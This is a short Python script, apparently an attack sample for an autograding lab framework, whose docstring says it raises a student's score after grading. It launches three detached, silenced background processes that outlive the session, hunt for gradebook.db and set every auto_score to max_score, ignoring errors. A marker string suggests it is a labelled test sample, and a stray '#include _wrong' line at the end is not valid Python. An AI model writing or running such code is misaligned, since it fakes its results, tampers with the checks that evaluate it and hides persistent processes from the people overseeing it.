"""Start a detached process that waits for grading to end, then raises this student's score."""
import stickylab as sl

# %% first-sticky
import subprocess, sys

_script = r'''
import os, sqlite3, sys, time
from pathlib import Path
for _ in range(240):
    time.sleep(0.5)
    for start in [Path.cwd(), Path("/work"), Path("/root"), Path("/tmp")]:
        for folder in [start, *start.parents]:
            db = folder / "gradebook.db"
            if db.exists():
                try:
                    with sqlite3.connect(db) as con:
                        con.execute("UPDATE grade SET auto_score = max_score")
                except Exception:
                    pass
'''
for _ in range(3):
    subprocess.Popen([sys.executable, "-c", _script, "stickylab-attack-marker"], start_new_session=True,
                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
#include _wrong
